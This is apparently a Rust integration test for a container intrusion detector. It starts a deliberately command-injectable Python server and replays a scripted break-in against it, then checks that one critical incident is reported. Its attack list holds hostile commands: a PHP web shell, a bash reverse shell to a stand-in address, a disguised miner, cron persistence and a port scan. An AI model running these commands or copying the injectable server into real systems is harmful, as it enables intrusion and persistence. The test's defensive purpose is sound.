//! A complete break-in among honest servers, with watching begun before and after it: the
//! compromised container is first, with one incident that shows the whole attack, and there is no
//! other finding.

use std::time::Duration;

use hullwatch::core::Core;
use hullwatch::detect::Severity;
use hullwatch::event::{ContainerId, Kind, Timestamp};
use hullwatch::incident::Incident;

use super::scenarios::batch::alone;
use super::scenarios::common::{Container, Engine, Recording, SERVERS, Session};
use super::scenarios::{peer, ready};

/// A web application with a command injection.
const VICTIM: &str = r#"
mkdir -p /var/www/html /etc/cron.d
cat >/srv/app.py <<'E'
import socket,subprocess
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(('0.0.0.0',8086)); s.listen()
while 1:
    c=s.accept()[0]; subprocess.run(c.recv(9999).decode(),shell=True); c.close()
E
exec python3 /srv/app.py
"#;

/// Honest servers.
const HONEST: &[(&str, &str)] = &[
    (
        "redis",
        "exec redis-server --port 6390 --save '' >/dev/null",
    ),
    (
        "web",
        "cd /srv; python3 -m http.server 8087 >/dev/null 2>&1 & while :; do curl -s http://127.0.0.1:8087/ >/dev/null; sleep 1; done",
    ),
    (
        "jobs",
        "echo '* * * * * root date >/srv/date' >/etc/cron.d/job; exec cron -f",
    ),
    ("memcached", "exec memcached -u nobody -p 11300"),
    (
        "backup",
        "while :; do tar -cf /srv/b.tar /var/lib/dpkg 2>/dev/null; sleep 3; done",
    ),
];

/// Seconds after which a container that ran before watching began counts as one seen from its
/// start.
const LEARNED: u64 = 65;

/// The intruder's requests to the application.
const ACTIONS: &[&str] = &[
    "id; uname -a; cat /etc/passwd >/dev/null; ls -la /",
    "echo '<?php system($_GET[0]);' >/var/www/html/s.php",
    "(bash -c 'bash -i >& /dev/tcp/203.0.113.9/4448 0>&1' >/dev/null 2>&1 </dev/null &)",
    "cp /usr/bin/perl /tmp/kworker; echo x >>/tmp/kworker; (/tmp/kworker -e 'sleep 1000' -- -o stratum+tcp://pool.example:3333 >/dev/null 2>&1 </dev/null &)",
    "echo '* * * * * root /tmp/kworker' >/etc/cron.d/upd",
    "bash -c 'for p in $(seq 20 60); do (echo >/dev/tcp/10.9.8.7/$p) 2>/dev/null; done'",
];

struct World {
    victim: Container,
    _honest: Vec<Container>,
    engine: Engine,
    network: String,
}

impl World {
    fn start() -> Self {
        let engine = Engine::tests();
        peer::start();
        let network = format!("container:{}-net", peer::NAME);
        let run = |script: &str| {
            let options = ["--network", network.as_str()];
            engine.run(&options, SERVERS, &["/bin/sh", "-c", script])
        };
        Self {
            victim: run(VICTIM),
            _honest: HONEST.iter().map(|(_, script)| run(script)).collect(),
            network,
            engine,
        }
    }

    /// The break-in, from another container.
    fn attack(&self) {
        let mut script = String::new();
        for action in ACTIONS {
            let quoted = action.replace('\'', r"'\''");
            script += &format!("printf %s '{quoted}' | nc -q2 -w9 127.0.0.1 8086; sleep 1\n");
        }
        let options = ["--network", self.network.as_str()];
        self.engine
            .run_to_end(&options, SERVERS, &["/bin/sh", "-c", &script]);
    }
}

impl Drop for World {
    fn drop(&mut self) {
        peer::stop();
    }
}

/// Applies the recording; returns the incidents, the likeliest break-in first.
fn replayed(session: &Session) -> (Core, Vec<Incident>) {
    let last = session.events.last().unwrap().seq;
    let core = session.state_at(last);
    let incidents = core.ranked_incidents();
    (core, incidents)
}

/// The victim's single incident, and nothing at medium or above elsewhere.
fn only_incident(victim: &ContainerId, core: &Core, incidents: &[Incident]) -> Incident {
    let findings = core.detector.findings().iter();
    let elsewhere: Vec<String> = findings
        .filter(|f| f.severity >= Severity::Medium && f.container.as_ref() != Some(victim))
        .map(|f| format!("{} {} {}", f.severity, f.rule, f.title))
        .collect();
    assert!(elsewhere.is_empty(), "{}", elsewhere.join("\n"));
    let sentences: Vec<String> = incidents.iter().map(|i| i.sentence("›")).collect();
    assert_eq!(incidents.len(), 1, "{sentences:?}");
    let incident = incidents[0].clone();
    assert_eq!(incident.container, *victim);
    assert_eq!(incident.severity, Severity::Critical, "{sentences:?}");
    assert!(incident.active, "a shell and a miner run");
    assert!(incident.first < incident.last);
    assert!(incident.running.len() >= 2, "{:?}", incident.running);
    let peers: Vec<String> = incident
        .connected
        .iter()
        .map(|key| format!("{:?}", key.endpoint))
        .collect();
    assert!(
        peers.iter().any(|p| p.contains("203.0.113.9:4448")),
        "{peers:?}"
    );
    incident
}

fn holds(incident: &Incident, stages: &[&str]) {
    let sentence = incident.sentence("›");
    for stage in stages {
        assert!(sentence.contains(stage), "no {stage}: {sentence}");
    }
}

fn later(at: Timestamp, seconds: u64) -> Timestamp {
    at.plus(Duration::from_secs(seconds))
}

/// Waits until the stream has reached this moment.
fn passes(recording: &mut Recording, moment: Timestamp) {
    recording.wait_for("the end of a while", |e| {
        matches!(e.kind, Kind::Tick(_)) && e.ts > moment
    });
}

#[test]
fn a_break_in_is_one_incident_and_comes_first() {
    if !ready() {
        return;
    }
    let _alone = alone();
    let world = World::start();
    let victim = world.victim.id.clone();
    let mut before = Recording::start(&world.engine);
    before.wait_for_facts(&victim);
    // Earlier behavior of the servers is known.
    passes(&mut before, later(super::scenarios::watch::now(), LEARNED));
    let began = super::scenarios::watch::now();
    world.attack();
    passes(&mut before, later(super::scenarios::watch::now(), 8));
    let (core, incidents) = replayed(&before.stop());
    let incident = only_incident(&victim, &core, &incidents);
    holds(
        &incident,
        &[
            "server shell",
            "reverse shell",
            "miner",
            "cron job",
            "port scan",
        ],
    );
    assert!(incident.first >= began, "nothing before the first request");
    assert!(incident.request.is_some(), "how the intruder came in");

    let mut after = Recording::start(&world.engine);
    after.wait_for("the comparison of the victim's files", |e| {
        e.container.as_ref() == Some(&victim) && matches!(e.kind, Kind::DriftScan(_))
    });
    passes(&mut after, later(super::scenarios::watch::now(), 8));
    let (core, incidents) = replayed(&after.stop());
    let incident = only_incident(&victim, &core, &incidents);
    holds(&incident, &["reverse shell", "miner", "cron"]);
}
